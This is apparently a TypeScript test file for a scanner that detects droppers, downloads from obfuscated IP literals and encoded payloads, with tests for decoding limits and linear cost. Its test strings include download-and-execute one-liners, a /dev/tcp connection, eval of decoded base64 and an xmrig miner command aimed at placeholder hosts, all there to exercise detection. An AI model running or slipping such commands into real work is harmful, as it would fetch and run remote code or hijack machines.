// Droppers and decoders by shape (issue 13): IP literals in any base, download-and-execute
// without a pipe, decode-and-execute, and payloads decoded statically; each linear in its input.

import { gzipSync } from 'node:zlib'
import t from 'tap'
import { findIpDownloads, formatIpv4, hostAddress, isPublicIpv4, parseIpv4 } from '../../src/detect/ip-literals.ts'
import { DecodeAllowance, decodedPayloads, MAX_DECODED_CHARACTERS } from '../../src/detect/payloads.ts'
import { findScriptDroppers } from '../../src/detect/script-droppers.ts'
import { GROWTH, growthRatio, LINEAR_RATIO_LIMIT, repeatedTo } from '../helpers/linear-cost.ts'

t.test('an IPv4 address is read in every spelling inet_aton accepts', async (t) => {
  const spellings = ['203.0.113.7', '0xCB007107', '3405803783', '0313.0.0161.07', '0xcb.0x0.0x71.0x7', '203.28935', '203.0.28935']
  t.same(
    spellings.map((text) => formatIpv4(parseIpv4(text) as number)),
    spellings.map(() => '203.0.113.7'),
  )
  t.same(['256.1.1.1', '1.2.3.4.5', '0x1ffffffff', '09.1.1.1', '', 'a.b.c.d', '1.2.65536'].map(parseIpv4), [
    undefined,
    undefined,
    undefined,
    undefined,
    undefined,
    undefined,
    undefined,
  ])
  t.equal(formatIpv4(hostAddress('[::ffff:203.0.113.7]') as number), '203.0.113.7')
  t.equal(formatIpv4(hostAddress('[::ffff:cb00:7107]') as number), '203.0.113.7')
  t.equal(hostAddress('[2001:db8::1]'), undefined)
  t.equal(hostAddress('example.com'), undefined)
})

t.test('private, loopback, link-local, CGNAT and multicast addresses are not public', async (t) => {
  const addresses = [
    '10.1.2.3',
    '172.20.0.1',
    '192.168.1.1',
    '127.0.0.1',
    '169.254.169.254',
    '100.64.0.10',
    '100.127.255.255',
    '0.0.0.0',
    '224.0.0.1',
    '100.63.255.255',
    '100.128.0.1',
    '203.0.113.7',
    '8.8.8.8',
  ]
  t.same(
    addresses.map((address) => isPublicIpv4(parseIpv4(address) as number)),
    [false, false, false, false, false, false, false, false, false, true, true, true, true],
  )
})

function ipDownloads(text: string): string[] {
  const found: string[] = []
  findIpDownloads(text, (index, end, dotted) => found.push(`${text.slice(index, end)} = ${dotted}`))
  return found
}

t.test('downloads from IP literals are found with their dotted form, private ones are not', async (t) => {
  t.same(ipDownloads('curl http://0xCB007107/x | sh; wget -qO- 203.0.113.22/x; exec 3<>/dev/tcp/198.51.100.4/80; curl http://u@[::ffff:203.0.113.29]/x'), [
    'http://0xCB007107 = 203.0.113.7',
    '203.0.113.22 = 203.0.113.22',
    '/dev/tcp/198.51.100.4 = 198.51.100.4',
    'http://u@[::ffff:203.0.113.29] = 203.0.113.29',
  ])
  t.same(ipDownloads('curl http://100.64.0.10:8080/b | sh; curl http://10.0.0.1/; route 203.0.113.0/24'), [])
})

function scriptDroppers(text: string): string[] {
  const found: string[] = []
  findScriptDroppers(text, (kind, index, end) => found.push(`${kind}: ${text.slice(index, end)}`))
  return found
}

t.test('download and decode executed without a pipe are found', async (t) => {
  t.same(scriptDroppers('sh -c "$(curl -fsSL http://x.example/i)"'), ['download-to-shell: $(curl -fsSL http://x.example/i)'])
  t.same(scriptDroppers('bash\n-c\n$(wget -qO- http://x.example/i)'), ['download-to-shell: $(wget -qO- http://x.example/i)'])
  t.same(scriptDroppers('eval "$(echo aGk= | base64 -d)"'), ['decode-to-shell: $(echo aGk= | base64 -d)'])
  t.same(scriptDroppers('sh -c "`curl http://x.example/i`"'), ['download-to-shell: `curl http://x.example/i`'])
  t.same(scriptDroppers('. <(curl -s http://x.example/x)'), ['download-to-shell: . <(curl -s http://x.example/x)'])
  t.same(scriptDroppers('curl http://x.example/x > /tmp/x; sh /tmp/x'), ['exec-from-tmp:  sh /tmp/x'])
  t.same(scriptDroppers('python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x.example/p\').read())"'), ['download-to-shell: exec('])
  t.same(scriptDroppers('python3 -c "import base64,os;os.system(base64.b64decode(\'aGk=\'))"'), ['decode-to-shell: os.system'])
  t.same(scriptDroppers('perl -e \'eval pack("H*","6869")\''), ['decode-to-shell: eval pack'])
})

t.test('substitutions that are data, and one-liners that only fetch or only print, are not droppers', async (t) => {
  t.same(scriptDroppers('VERSION=$(curl -s https://api.example.com/latest | jq -r .tag)'), [])
  t.same(scriptDroppers('python -c "import urllib.request; print(urllib.request.urlopen(\'http://localhost:8080/healthz\').status)"'), [])
  t.same(scriptDroppers('python -c "import base64;print(base64.b64decode(open(\'/in\').read()).decode())"'), [])
  t.same(scriptDroppers('sh -c "$(cat /config/init.sh)"'), [])
  t.same(scriptDroppers('echo `date` started'), [])
})

t.test('payloads are decoded statically: base64, hex, gzip inside base64, printf escapes, reversed', async (t) => {
  const plain = 'xmrig -o pool.example.net:3333 -u wallet -k --tls --donate-level 1'
  const decoded = (text: string, hinted = true) => decodedPayloads(text, new DecodeAllowance(), hinted).map(({ how, text }) => `${how}: ${text}`)
  t.same(decoded(`echo ${Buffer.from(plain).toString('base64')}`), [`base64: ${plain}`])
  t.same(decoded(Buffer.from(plain).toString('hex'), false), [`hex: ${plain}`])
  t.same(decoded(gzipSync(plain).toString('base64'), false), [`base64+gzip: ${plain}`])
  t.same(decoded(`printf '${[...plain].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`), [`printf escapes: ${plain}`])
  t.same(decoded(`echo '${[...plain].reverse().join('')}' | rev`).at(-1), `reversed: ${`ver | '${plain}' ohce`}`)
  t.same(decoded(Buffer.from('xmrig -o a.example:1').toString('base64'), false), [], 'an unhinted short blob is not decoded')
  t.same(decoded(Buffer.from(new Uint8Array(64).map((_, index) => index * 7)).toString('base64'), false), [], 'binary noise is not text')
  t.same(decoded(`H4sI${'A'.repeat(60)}`), [], 'a broken gzip stream is dropped')
})

t.test('decoding stops at the review allowance; a gzip bomb is cut at it', async (t) => {
  const bomb = gzipSync(Buffer.alloc(MAX_DECODED_CHARACTERS * 4, 0x61)).toString('base64')
  const allowance = new DecodeAllowance()
  t.same(decodedPayloads(bomb, allowance, true), [])
  const spent = new DecodeAllowance()
  spent.remaining = 0
  t.same(decodedPayloads(Buffer.from('x'.repeat(100)).toString('base64'), spent, true), [])
})

t.test('each new scanner costs time linear in its input', async (t) => {
  const inputs: [string, (text: string) => void][] = [
    ['http://0x', (text) => findIpDownloads(text, () => {})],
    ['curl 1.2.3.4/', (text) => findIpDownloads(text, () => {})],
    ['sh -c "$(', (text) => findScriptDroppers(text, () => {})],
    ['$(curl ', (text) => findScriptDroppers(text, () => {})],
    ['eval(', (text) => findScriptDroppers(text, () => {})],
    ['exec( urlopen\n', (text) => findScriptDroppers(text, () => {})],
    ['. <(', (text) => findScriptDroppers(text, () => {})],
    ['`', (text) => findScriptDroppers(text, () => {})],
    ['Buffer.from(', (text) => findScriptDroppers(text, () => {})],
    ['QUJD', (text) => decodedPayloads(text, new DecodeAllowance(), true)],
    ['\\x41', (text) => decodedPayloads(text, new DecodeAllowance(), true)],
  ]
  for (const [unit, scan] of inputs) {
    const ratio = growthRatio((size) => repeatedTo(unit, size), scan)
    t.ok(ratio < LINEAR_RATIO_LIMIT, `${JSON.stringify(unit)}: cost ratio ${ratio.toFixed(1)} for ${GROWTH}x the text`)
  }
})
